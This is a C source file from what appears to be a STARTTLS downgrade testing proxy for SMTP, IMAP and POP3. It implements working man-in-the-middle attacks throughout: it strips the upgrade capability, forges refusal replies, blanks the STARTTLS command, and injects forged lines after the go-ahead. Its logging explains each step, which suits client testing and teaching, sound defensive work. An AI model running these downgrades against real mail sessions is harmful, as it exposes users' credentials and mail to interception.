/*
 * proxy_plain: the plaintext phase of a proxied session, where the attack
 * applies. Each direction is cut into lines (a line longer than PX_LINE_MAX
 * goes along in pieces); the server's lines go through the protocol's framer
 * so that replies, capabilities and the go-ahead are recognised. Strip
 * removes the upgrade from the capabilities, refuse answers STARTTLS itself,
 * inject appends forged lines behind the go-ahead; pass only watches.
 */
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>

#include "escape.h"
#include "proto.h"
#include "proxy_int.h"
#include "util.h"

/* A plaintext line longer than this (terminator included) is relayed in
 * pieces as it arrives instead of being held whole. */
#define PX_LINE_MAX (PROTO_LINE_CAP + 2)

/* What the proxy says in each protocol's name. Replies to STARTTLS follow the
 * client's tag in IMAP. */
struct px_proto {
	const char *not_supported; /* strip: STARTTLS is not even a command here */
	const char *refusal;       /* refuse: the upgrade is "unavailable" */
	const char *forged;        /* inject: sent right behind the go-ahead */
};

static const struct px_proto px_protos[PROTO_COUNT] = {
    [PROTO_SMTP] = {.not_supported = "502 5.5.1 STARTTLS not supported\r\n",
                    .refusal = "454 4.7.0 TLS not available\r\n",
                    .forged = "250-INJECTED\r\n250 AUTH PLAIN\r\n"},
    [PROTO_IMAP] = {.not_supported = "BAD STARTTLS not supported\r\n",
                    .refusal = "NO TLS not available\r\n",
                    .forged = "* CAPABILITY IMAP4rev1 AUTH=PLAIN\r\n"},
    [PROTO_POP3] = {.not_supported = "-ERR STLS not supported\r\n",
                    .refusal = "-ERR TLS not available\r\n",
                    .forged = "+OK injected\r\n"},
};

/* True if the first word of (p, n) is w, ignoring case. */
static bool
px_first_word_is(const unsigned char *p, size_t n, const char *w)
{
	size_t wl = strlen(w);

	return n >= wl && strncasecmp((const char *)p, w, wl) == 0 &&
	       (n == wl || p[wl] == ' ');
}

/* Queues bytes for the client, after any SMTP reply line held back. */
static void
px_to_client(struct px_conn *c, const void *data, size_t n)
{
	if (c->held.len > 0) {
		proxy_buf_add(&c->down.out, c->held.p, c->held.len);
		c->held.len = 0;
	}
	proxy_buf_add(&c->down.out, data, n);
}

/* Sends the proxy's own replies whose turn has come. */
static void
px_locals_due(struct px_conn *c)
{
	size_t k = 0;

	while (k < c->nlocals && c->locals[k].ends == 0) {
		px_to_client(c, c->locals[k].text, c->locals[k].len);
		free(c->locals[k].text);
		k++;
	}
	if (k == 0)
		return;
	memmove(c->locals, c->locals + k, (c->nlocals - k) * sizeof(*c->locals));
	c->nlocals -= k;
}

/* Counts one completed server reply towards the proxy's own replies. */
static void
px_locals_count_end(struct px_conn *c)
{
	for (size_t i = 0; i < c->nlocals; i++) {
		if (c->locals[i].ends > 0)
			c->locals[i].ends--;
	}
}

static void
px_locals_add(struct px_conn *c, const char *tag, const char *body)
{
	char *text = str_printf("%s%s%s", tag, *tag ? " " : "", body);

	c->locals = xrealloc(c->locals, (c->nlocals + 1) * sizeof(*c->locals));
	c->locals[c->nlocals++] = (struct px_local){
	    .text = (unsigned char *)text,
	    .len = strlen(text),
	    .ends = framer_pending(c->fr),
	};
	px_locals_due(c);
}

/* SMTP strip holds each line of a reply back until the next one arrives, so
 * that when the last line is dropped the one before can become the last. */
static bool
px_holds_lines(const struct px_conn *c)
{
	return c->cfg->attack == PROXY_STRIP && c->info->id == PROTO_SMTP;
}

static void
px_emit_server(struct px_conn *c, const unsigned char *raw, size_t n, bool end)
{
	if (px_holds_lines(c) && !end) {
		px_to_client(c, NULL, 0);
		proxy_buf_add(&c->held, raw, n);
		return;
	}
	px_to_client(c, raw, n);
}

/* Strip: drops an SMTP or POP3 capability line that offers the upgrade. An
 * SMTP reply must still end with "250 ": if the dropped line was the last,
 * the held line before it takes its place. */
static bool
px_strip_whole_line(struct px_conn *c, const struct proto_line *ln)
{
	const char *cap = c->info->starttls_cap;

	if (ln->flags & PROTO_LINE_END) {
		if (c->held.len < 4 || c->held.p[3] != '-')
			return false;
		char *before =
		    proxy_escaped(c->held.p, proxy_content_len(c->held.p, c->held.len));
		c->held.p[3] = ' ';
		char *after =
		    proxy_escaped(c->held.p, proxy_content_len(c->held.p, c->held.len));
		proxy_logf(c->cfg->log, c->id,
		           "!! strip: dropped this line, so \"%s\" is rewritten as \"%s\" "
		           "to end the reply; the client never learns the server offers %s",
		           before, after, cap);
		free(before);
		free(after);
		px_to_client(c, NULL, 0);
		return true;
	}
	proxy_logf(
	    c->cfg->log, c->id,
	    "!! strip: dropped this line; the client never learns the server offers %s",
	    cap);
	return true;
}

/* Strip: removes the STARTTLS atom (and the space before it) from an IMAP
 * CAPABILITY response or [CAPABILITY ...] code, keeping the rest byte for byte. */
static bool
px_strip_imap_atom(struct px_conn *c, const unsigned char *raw, size_t n,
                   const struct proto_line *ln, const struct proto_cap *caps, size_t ncaps)
{
	struct px_buf line = {0};
	size_t from = 0;
	bool removed = false;

	for (size_t i = 0; i < ncaps; i++) {
		if (!px_first_word_is(caps[i].data, caps[i].len, c->info->starttls_cap) ||
		    caps[i].len != strlen(c->info->starttls_cap))
			continue;
		size_t at = (size_t)(caps[i].data - ln->data);
		if (at == 0 || raw[at - 1] != ' ')
			continue;
		proxy_buf_add(&line, raw + from, at - 1 - from);
		from = at + caps[i].len;
		removed = true;
	}
	if (!removed)
		return false;
	proxy_buf_add(&line, raw + from, n - from);
	char *esc = proxy_escaped(line.p, proxy_content_len(line.p, line.len));
	proxy_logf(c->cfg->log, c->id,
	           "!! strip: removed the %s atom; the client sees \"%s\"",
	           c->info->starttls_cap, esc);
	free(esc);
	px_emit_server(c, line.p, line.len, ln->flags & PROTO_LINE_END);
	proxy_buf_free(&line);
	return true;
}

/* Strip: rewrites a capability line if it offers the upgrade. Returns true
 * when the line was dealt with (dropped or rewritten and queued). */
static bool
px_strip(struct px_conn *c, const unsigned char *raw, size_t n, const struct proto_line *ln)
{
	struct proto_cap caps[128];
	size_t ncaps = proto_line_caps(c->info->id, ln, caps, 128);

	if (ncaps > 128)
		ncaps = 128;
	if (c->info->id == PROTO_IMAP)
		return px_strip_imap_atom(c, raw, n, ln, caps, ncaps);
	if (ncaps == 0 ||
	    !px_first_word_is(caps[0].data, caps[0].len, c->info->starttls_cap))
		return false;
	return px_strip_whole_line(c, ln);
}

/* Decides what a complete server line becomes on its way to the client. */
static void
px_server_line(struct px_conn *c, const unsigned char *raw, size_t n,
               const struct proto_line *ln)
{
	proxy_log_line(c, c->down.arrow, ln->data, ln->len, "");
	if (c->cfg->attack == PROXY_STRIP && (ln->flags & PROTO_LINE_CAPS) &&
	    px_strip(c, raw, n, ln))
		return;
	px_emit_server(c, raw, n, ln->flags & PROTO_LINE_END);
}

/* True if this completed reply answers the STARTTLS the proxy forwarded. */
static bool
px_answers_starttls(struct px_conn *c, const struct proto_line *ln)
{
	if (c->info->id == PROTO_IMAP)
		return ln->tag != NULL && ln->tag_len == strlen(c->starttls_tag) &&
		       memcmp(ln->tag, c->starttls_tag, ln->tag_len) == 0;
	if (c->starttls_ends > 0) {
		c->starttls_ends--;
		return false;
	}
	return true;
}

/* The upgrade begins: from here both directions are relayed raw. Bytes that
 * came in behind the go-ahead or the STARTTLS line go along unread. */
static void
px_begin_raw(struct px_conn *c)
{
	struct px_side *sides[2] = {&c->down, &c->up};

	c->raw = true;
	proxy_logf(
	    c->cfg->log, c->id,
	    "== the upgrade begins: from here the proxy relays TLS bytes it cannot read; "
	    "it still sees each record's type and size, as any eavesdropper does");
	px_to_client(c, NULL, 0);
	for (size_t i = 0; i < c->nlocals; i++)
		free(c->locals[i].text);
	c->nlocals = 0;
	for (int i = 0; i < 2; i++) {
		struct px_side *s = sides[i];
		if (s->in.len == 0)
			continue;
		proxy_logf(c->cfg->log, c->id,
		           "!! %zu bytes (%s) arrived behind the go-ahead in plaintext; "
		           "relayed as they are",
		           s->in.len, s->name);
		proxy_buf_add(&s->out, s->in.p, s->in.len);
		proxy_tls_feed(c, s, s->in.p, s->in.len);
		s->plain_bytes -= s->in.len;
		s->in.len = 0;
	}
}

/* Inject: the forged lines ride behind the go-ahead in the same write. */
static void
px_inject(struct px_conn *c)
{
	const char *forged = px_protos[c->info->id].forged;
	char *esc =
	    escape_bytes((const unsigned char *)forged, strlen(forged), ESCAPE_TEXT);

	px_to_client(c, forged, strlen(forged));
	proxy_logf(c->cfg->log, c->id,
	           "!! inject: appended \"%s\" to the go-ahead, in the same segment; "
	           "a careful client discards it, a careless one believes it",
	           esc);
	free(esc);
}

/* One piece of server plaintext: a whole line, or a piece of a long line or
 * of an IMAP literal (relayed as is). Returns true at the go-ahead. */
static bool
px_server_unit(struct px_conn *c, const unsigned char *raw, size_t n, bool whole)
{
	struct proto_line ln;
	bool handled = false, goahead = false, refused = false;
	unsigned ends = 0;

	if (framer_feed(c->fr, raw, n) < 0)
		fatal("out of memory");
	for (size_t k = 0; framer_next(c->fr, &ln) == 1; k++) {
		if (k == 0 && whole &&
		    !(ln.flags & (PROTO_LINE_LITERAL | PROTO_LINE_TRUNCATED)) &&
		    ln.len == proxy_content_len(raw, n)) {
			px_server_line(c, raw, n, &ln);
			handled = true;
		}
		if (!(ln.flags & PROTO_LINE_END))
			continue;
		ends++;
		if (c->starttls_waiting && px_answers_starttls(c, &ln)) {
			c->starttls_waiting = false;
			goahead = ln.reply == PROTO_REPLY_OK;
			refused = !goahead;
		}
	}
	if (!handled) {
		proxy_log_line(c, c->down.arrow, raw, proxy_content_len(raw, n),
		               whole ? "" : "  (piece of a literal or long line)");
		px_to_client(c, raw, n);
	}
	while (ends-- > 0)
		px_locals_count_end(c);
	px_locals_due(c);
	if (refused)
		proxy_logf(
		    c->cfg->log, c->id,
		    "== the server refused the upgrade; the session stays plaintext");
	if (goahead && c->cfg->attack == PROXY_INJECT)
		px_inject(c);
	return goahead;
}

/* Forwards the client's STARTTLS with the command word overwritten by X's:
 * the server answers an unknown command and the session stays plaintext. */
static void
px_client_blank(struct px_conn *c, const unsigned char *raw, size_t n, size_t len)
{
	unsigned char *line = xmemdup(raw, n);
	const unsigned char *sp = memchr(raw, ' ', len);
	size_t wl = strlen(c->info->starttls_command), word_at = 0;

	if (c->info->id == PROTO_IMAP && sp != NULL)
		word_at = (size_t)(sp - raw) + 1; /* after the tag */
	memset(line + word_at, 'X', wl);
	proxy_logf(c->cfg->log, c->id,
	           "!! blank: forwarded %s as %.*s; the server will not recognise it",
	           c->info->starttls_command, (int)wl, (const char *)line + word_at);
	framer_sent(c->fr, line, len);
	proxy_buf_add(&c->up.out, line, n);
	free(line);
}

/* Answers the client's STARTTLS as the attack says: strip and refuse reply
 * themselves (the server never sees it); blank overwrites it; pass and inject
 * forward it. */
static void
px_client_starttls(struct px_conn *c, const unsigned char *raw, size_t n, size_t len)
{
	char tag[PX_TAG_MAX] = "";
	enum proxy_attack a = c->cfg->attack;

	if (c->info->id == PROTO_IMAP) {
		const unsigned char *sp = memchr(raw, ' ', len);
		size_t tl = sp ? (size_t)(sp - raw) : 0;
		if (tl >= sizeof(tag))
			tl = sizeof(tag) - 1;
		memcpy(tag, raw, tl);
		tag[tl] = '\0';
	}
	if (a == PROXY_STRIP || a == PROXY_REFUSE) {
		const char *body = a == PROXY_STRIP ? px_protos[c->info->id].not_supported
		                                    : px_protos[c->info->id].refusal;
		char *esc = escape_bytes((const unsigned char *)body, strlen(body) - 2,
		                         ESCAPE_TEXT);
		char *etag =
		    escape_bytes((const unsigned char *)tag, strlen(tag), ESCAPE_TEXT);
		proxy_logf(
		    c->cfg->log, c->id,
		    "!! %s: answered %s itself with \"%s%s%s\"; the server never saw it",
		    proxy_attack_name(a), c->info->starttls_command, etag, *tag ? " " : "",
		    esc);
		free(esc);
		free(etag);
		px_locals_add(c, tag, body);
		return;
	}
	if (a == PROXY_BLANK) {
		px_client_blank(c, raw, n, len);
		return;
	}
	c->starttls_waiting = true;
	c->starttls_ends = framer_pending(c->fr);
	memcpy(c->starttls_tag, tag, sizeof(tag));
	framer_sent(c->fr, raw, len);
	proxy_buf_add(&c->up.out, raw, n);
	proxy_logf(c->cfg->log, c->id,
	           "== %s forwarded; waiting for the server's go-ahead (%s)",
	           c->info->starttls_command, c->info->go_ahead);
}

/* One piece of client plaintext: a whole line, or a piece of a long one. */
static void
px_client_unit(struct px_conn *c, const unsigned char *raw, size_t n, bool whole,
               bool starts_line)
{
	size_t len = whole ? proxy_content_len(raw, n) : n;

	if (!starts_line) {
		proxy_buf_add(&c->up.out, raw, n);
		return;
	}
	proxy_log_line(c, c->up.arrow, raw, len, whole ? "" : "  (start of a long line)");
	if (whole && !framer_in_data(c->fr) && proto_is_starttls(c->info->id, raw, len)) {
		px_client_starttls(c, raw, n, len);
		return;
	}
	framer_sent(c->fr, raw, len);
	proxy_buf_add(&c->up.out, raw, n);
}

/* Cuts the next unit from a side's plaintext buffer: a line up to its LF, or
 * everything so far of a line that outgrew PX_LINE_MAX. */
static bool
px_next_unit(struct px_side *s, size_t *n, bool *whole, bool *starts_line)
{
	const unsigned char *lf = memchr(s->in.p, '\n', s->in.len);

	*starts_line = !s->long_line;
	if (lf != NULL) {
		*n = (size_t)(lf - s->in.p) + 1;
		*whole = !s->long_line;
		s->long_line = false;
		return true;
	}
	if (s->in.len <= PX_LINE_MAX)
		return false;
	*n = s->in.len;
	*whole = false;
	s->long_line = true;
	return true;
}

/* Works through plaintext read from one side, unit by unit, until the
 * buffer holds only a partial line or the upgrade begins. */
void
proxy_plain_process(struct px_conn *c, struct px_side *s)
{
	size_t n;
	bool whole, starts;

	while (!c->raw && s->in.len > 0 && px_next_unit(s, &n, &whole, &starts)) {
		bool goahead = false;
		if (s == &c->down)
			goahead = px_server_unit(c, s->in.p, n, whole);
		else
			px_client_unit(c, s->in.p, n, whole, starts);
		proxy_buf_drop(&s->in, n);
		if (goahead)
			px_begin_raw(c);
	}
}

/* At EOF in plaintext, what is left is a partial line: it goes along as is. */
void
proxy_plain_flush(struct px_conn *c, struct px_side *s)
{
	if (s->in.len > 0) {
		proxy_log_line(c, s->arrow, s->in.p, s->in.len,
		               "  (no line end before the close)");
		if (s == &c->down)
			px_to_client(c, s->in.p, s->in.len);
		else
			proxy_buf_add(&s->out, s->in.p, s->in.len);
		s->in.len = 0;
	}
	if (s == &c->down) {
		px_to_client(c, NULL, 0);
		for (size_t i = 0; i < c->nlocals; i++)
			c->locals[i].ends = 0;
		px_locals_due(c);
	}
}
